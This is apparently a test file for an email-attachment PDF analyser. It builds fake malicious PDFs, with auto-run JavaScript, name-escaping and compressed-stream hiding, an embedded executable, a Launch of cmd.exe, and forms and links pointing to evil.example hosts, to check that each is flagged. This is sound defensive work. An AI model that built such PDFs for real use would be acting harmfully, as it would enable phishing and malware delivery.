import { describe, expect, it } from 'vitest';
import { analyzeAttachments } from '../../../../src/engine/attachments/analyze-attachments.ts';
import { DEFAULT_LIMITS } from '../../../../src/engine/limits.ts';
import type { FileNode, MessageModel } from '../../../../src/core/message.ts';
import { deflateSync } from 'node:zlib';
import { attachment, encryptedPdf, modelWith, pdf, textPdf } from './fixtures/build-files.ts';

/** A PDF whose action objects live in a deflated object stream, invisible to a plain byte scan. */
function objStmPdf(hidden: string): Uint8Array {
  const header = '9 0 ';
  const content = deflateSync(Buffer.from(header + hidden, 'latin1')).toString('latin1');
  const objstm = `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const base = Buffer.from(textPdf(LONG_TEXT)).toString('latin1');
  return pdf([...base.split(/\d+ 0 obj\n/).slice(1).map((o) => o.replace(/\nendobj[\s\S]*$/, '')), objstm]);
}

async function analyse(bytes: Uint8Array, limits = DEFAULT_LIMITS, text?: string): Promise<{ node: FileNode; model: MessageModel }> {
  const model = modelWith([attachment('document.pdf', bytes, 'application/pdf')], text);
  await analyzeAttachments(model, limits);
  return { node: model.attachments[0]!.explode![0]!, model };
}

const LONG_TEXT = 'The quarterly report covers revenue, costs and the outlook for the next two quarters in each region we serve today';

describe('PDF analysis', () => {
  it('flags JavaScript run by an OpenAction', async () => {
    const bytes = textPdf(LONG_TEXT, { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\("hi"\\);) >>' });
    const { node } = await analyse(bytes);
    expect(node.flags).toEqual(expect.arrayContaining(['pdf_javascript', 'pdf_auto_action']));
    expect((node.scan.strings as { raw: string }).raw).toContain('quarterly report');
  });

  it('sees through #-escaped names (/J#61vaScript)', async () => {
    const { node } = await analyse(textPdf(LONG_TEXT, { catalog: '/Names << /J#61vaScript 9 0 R >>' }));
    expect(node.flags).toContain('pdf_javascript');
  });

  it('finds JavaScript hidden in a compressed object stream, and nothing in a benign one', async () => {
    expect((await analyse(objStmPdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'))).node.flags).toContain('pdf_javascript');
    expect((await analyse(objStmPdf('<< /Producer (Word) >>'))).node.flags).not.toContain('pdf_javascript');
  });

  it('unpacks an embedded file (deflated) as a child and analyses it', async () => {
    const exe = deflateSync(Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(200)])).toString('latin1');
    const embedded = `<< /Type /EmbeddedFile /Filter /FlateDecode /Length ${exe.length} >>\nstream\n${exe}\nendstream`;
    const bytes = textPdf(LONG_TEXT, { catalog: '/Names << /EmbeddedFiles << /Names [(invoice.exe) << /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>] >> >>', annots: [embedded] });
    const model = modelWith([attachment('statement.pdf', bytes, 'application/pdf')]);
    await analyzeAttachments(model, DEFAULT_LIMITS);
    const [root, child] = model.attachments[0]!.explode!;
    expect(root!.flags).toContain('pdf_embedded_file');
    expect(child).toMatchObject({ file_name: 'pdf_embedded_1', depth: 1, flavors: { mime: 'application/x-dosexec', yara: [] } });
    expect(child!.flags).toContain('dangerous_type');
  });

  it('does not flag a plain text PDF', async () => {
    const { node, model } = await analyse(textPdf(LONG_TEXT));
    expect(node.flags).toEqual([]);
    expect(node.scan.pdf).toMatchObject({ pages: 1 });
    expect(model.body.links).toEqual([]);
  });

  it('extracts link annotations into body links and flags a link-only PDF', async () => {
    const annot = '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (https://login.evil.example/m365) >> >>';
    const { node, model } = await analyse(textPdf('View document', { annots: [annot] }));
    expect(node.flags).toContain('pdf_link_only');
    const pdfLinks = model.body.links.filter((l) => l.parser === 'pdf');
    expect(pdfLinks.map((l) => l.href_url.domain.root_domain)).toEqual(['evil.example']);
    expect(node.scan.pdf).toMatchObject({ urls: ['https://login.evil.example/m365'] });
  });

  it('flags Launch and SubmitForm actions and reports where the form posts', async () => {
    const launch = textPdf(LONG_TEXT, { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' });
    expect((await analyse(launch)).node.flags).toContain('pdf_launch');
    const submit = textPdf(LONG_TEXT, { annots: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://collect.evil.example/p) >> >>'] });
    const { node, model } = await analyse(submit);
    expect(node.flags).toContain('pdf_submit_form');
    expect(model.body.links.map((l) => l.href_url.url)).toContain('https://collect.evil.example/p');
  });

  it('opens a password-protected PDF with the password the message gives, and only then', async () => {
    const locked = encryptedPdf('Your refund is waiting for you', 'Ref123');
    const opened = await analyse(locked, DEFAULT_LIMITS, 'Statement attached. Senha de acesso: Ref123');
    expect(opened.node.flags).toEqual(expect.arrayContaining(['encrypted_document', 'password_in_body']));
    expect((opened.node.scan.strings as { raw: string }).raw).toContain('Your refund is waiting');
    const closed = await analyse(locked, DEFAULT_LIMITS, 'Statement attached.');
    expect(closed.node.flags).toContain('encrypted_document');
    expect(closed.node.flags).not.toContain('malformed_pdf');
    expect(closed.node.scan.pdf).toMatchObject({ password_required: true });
  });

  it('records a malformed PDF as a finding, not a crash', async () => {
    const broken = new Uint8Array(Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\n garbage \x00\x01\x02 trailer <<', 'latin1'));
    const { node } = await analyse(broken);
    expect(node.flags).toContain('malformed_pdf');
    expect(node.scan.pdf).toMatchObject({ pages: null });
  });

  it('reads at most maxPdfPages pages', async () => {
    const pages = 5;
    const objects = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${4 + i * 2} 0 R`).join(' ')}] /Count ${pages} >>`, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'];
    for (let i = 0; i < pages; i++) {
      const s = `BT /F1 12 Tf 72 720 Td (page number ${i + 1} words) Tj ET`;
      objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${5 + i * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`);
      objects.push(`<< /Length ${s.length} >>\nstream\n${s}\nendstream`);
    }
    const { node } = await analyse(pdf(objects), { ...DEFAULT_LIMITS, maxPdfPages: 2 });
    const text = (node.scan.strings as { raw: string }).raw;
    expect(text).toContain('page number 2');
    expect(text).not.toContain('page number 3');
    expect(node.flags).toContain('pdf_pages_truncated');
  });
});
